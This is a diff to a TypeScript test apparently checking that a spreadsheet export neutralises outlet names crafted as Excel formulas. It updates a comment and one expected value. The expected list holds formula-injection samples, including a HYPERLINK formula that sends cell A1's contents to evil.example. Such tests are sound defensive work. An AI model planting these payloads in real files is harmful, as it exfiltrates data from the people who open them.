@@ -10,7 +10,11 @@ import { openSqliteStore, type SqliteStore } from '../../src/store/sqlite/sqlite
 import { makeItem } from '../store/make-post.js';
 import { makeProject } from './make-project.js';
 
-/** Outlet names as scraped feeds gave them, each meant to run as a formula when opened in Excel. */
+/**
+ * Outlet names as scraped feeds gave them, each meant to run as a formula when opened in Excel.
+ * A handle-shaped one ("@SUM(1+1)") no longer reaches the export: the privacy gate takes handles
+ * out of outlet names ("[HANDLE](1+1)"), so the "@" case is one that is no handle.
+ */
 const OUTLETS = readFileSync(join(import.meta.dirname, '..', 'fixtures', 'report', 'outlet-names-read-as-formulas.txt'), 'utf8')
   .split('\n')
   .filter((line) => line !== '');
@@ -74,7 +78,7 @@ describe('the aggregate export opened in a spreadsheet', () => {
 
   it('keeps the names readable behind one apostrophe', () => {
     expect(outletLines().map((line) => spreadsheetCells(line, ',')[3]).sort()).toEqual([
-      "' =2+2", "'-4+3", "'@SUM(1+1)", "'＝3+3", 'Ak;=1+1', 'Tab\t=5+5',
+      "' =2+2", "'-4+3", "'@(1+1)", "'＝3+3", 'Ak;=1+1', 'Tab\t=5+5',
       'Tengri;=HYPERLINK("http://evil.example/?"&A1,"click")', 'Новости\t+7', 'Норм медиа',
     ]);
   });
